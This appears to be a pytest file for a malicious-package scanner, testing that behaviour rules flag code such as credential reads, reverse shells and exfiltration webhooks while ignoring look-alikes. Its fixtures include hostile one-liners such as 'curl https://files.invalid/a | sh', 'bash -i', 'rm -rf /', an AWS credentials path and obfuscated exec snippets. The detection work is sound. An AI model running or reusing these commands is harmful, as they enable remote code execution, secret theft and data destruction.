"""What code is seen to do, as it is written and once it is unwound."""

import re

import pytest

from scanner.analyzers.model import behaviours
from scanner.analyzers.model.behaviours import RULES, TOGETHER, WITHIN_FUNCTION, seen
from scanner.analyzers.model.reading import Budget, read_file
from scanner.analyzers.model.vectors import Role
from scanner.analyzers.sources import Source

SHOWS = {
    "net_out": "requests.get(u)",
    "net_post": "session.post (u, data=x)",
    "exec_dyn": "new Function ('return 1')",
    "proc": "require('child_process')",
    "decode": "Buffer.from(x, 'base64')",
    "env": "process.env.HOME",
    "env_all": "JSON.stringify( process.env )",
    "sysinfo": "os.userInfo()",
    "cred": "open('~/.aws/credentials')",
    "persist": "crontab -e",
    "exfil_dom": "https://discord.com/api/webhooks/1",
    "ip_url": "http://192.0.2.7/x",
    "binary_drop": "open('a.exe')",
    "powershell": "POWERSHELL -c",
    "hidden": "creationflags=8",
    "inject": "VirtualAlloc(",
    "spy": "ImageGrab.grab()",
    "crypto_mine": "stratum+tcp://pool.invalid",
    "ransom": "rm -rf /",
    "rev_shell": "bash -i",
    "anti": "sys.gettrace()",
    "self_pub": "npm publish",
    "dl_exec": "curl https://files.invalid/a | sh",
    "wal_swap": "0x" + "a" * 40,
    "install_hook": "setup(cmdclass={})",
    "js_mangle": "_0xabc123",
    "pyobf": "__pyarmor__",
    "chr_join": "map(chr, x)",
}
ALSO = [
    ("exec_dyn", "exec(x)"),
    ("exec_dyn", "lambda: eval(c)"),
    ("exec_dyn", "return eval(x)"),
    ("exec_dyn", "x = compile(text, '<s>', 'exec')"),
    ("exec_dyn", "window.eval(x)"),
    ("net_out", "urllib.request.Request(u)"),
    ("net_out", "aiohttp.ClientSession()"),
    ("net_out", "await fetch(u)"),
    ("cred", "join(home, 'Google', 'Chrome', 'Cookies')"),
    ("cred", "join(a, 'Local Storage', 'leveldb')"),
    ("cred", r"'\\Exodus\\exodus.wallet'"),
    ("cred", "'https://discord.com/api/webhooks/1'"),
    ("persist", r"'\Start Menu\Programs\Startup'"),
    ("binary_drop", "chmod +x a"),
]
NOT = [
    ("exec_dyn", "re.compile(x)"),
    ("exec_dyn", "pattern.exec(text)"),
    ("exec_dyn", "model.eval()"),
    ("exec_dyn", "def compile(self, template):"),
    ("exec_dyn", "function exec(command) {"),
    ("net_out", "urllib.parse.quote(x)"),
    ("net_out", "raise requests.exceptions.Timeout"),
    ("net_out", "cursor.fetch(5)"),
    ("cred", "with transaction.atomic():"),
    ("cred", "session.cookies"),
    ("cred", "testdata"),
    ("cred", "discord.Client()"),
    ("persist", "user.profile"),
    ("persist", "on_startup()"),
    ("exfil_dom", "toast.success('saved')"),
    ("exfil_dom", "profile.iot"),
    ("ip_url", "'127.0.0.1'"),
    ("ip_url", "http://192.168.1.4/"),
    ("binary_drop", "a+x"),
    ("spy", "navigator.clipboard.writeText(a)"),
    ("anti", "<iframe sandbox>"),
]
NO_ROLE = Role()


@pytest.mark.parametrize("name", SHOWS)
def test_each_behaviour_is_seen_at_its_line(name):
    assert seen(f"x = 1\n\n{SHOWS[name]}\n").lines[name] == 3


@pytest.mark.parametrize(("name", "code"), ALSO)
def test_other_ways_of_doing_it_are_seen(name, code):
    assert name in seen(code).lines


@pytest.mark.parametrize(("name", "code"), NOT)
def test_words_that_only_look_like_it_are_not(name, code):
    assert name not in seen(code).lines


def test_every_behaviour_has_a_case_here_and_words():
    assert set(behaviours.words()) - {"hides"} == set(SHOWS)
    assert all(behaviours.words().values())


def test_pairs_are_made_of_behaviours():
    assert {name for pair in (*TOGETHER, *WITHIN_FUNCTION) for name in pair} <= set(SHOWS)


def test_a_plain_file_shows_nothing():
    assert seen("def add(a, b):\n    return a + b\n").lines == {}
    assert (
        read_file(Source("a.py", "def add(a, b):\n    return a + b\n"), NO_ROLE, Budget()) is None
    )


def test_words_that_are_taken_apart_are_seen_as_well():
    hidden = 'f = getattr(__import__("o" + "s"), "metsys"[::-1])\nf("who" + "ami")\n'

    file = read_file(Source("a.py", hidden), NO_ROLE, Budget())

    assert {"proc", "sysinfo"} <= set(file.whole.vector)


def test_computed_members_are_seen_as_well():
    hidden = """
const c = require("child_" + "process");
c["ex" + "ec"](global["pro" + "cess"]["env"].A);
"""

    file = read_file(Source("a.js", hidden), NO_ROLE, Budget())

    assert {"proc", "env"} <= set(file.whole.vector)


def test_the_rules_have_one_line_of_words_each():
    text = RULES.read_text()
    assert len(re.findall(r"^rule ", text, re.MULTILINE)) == text.count("words = ")
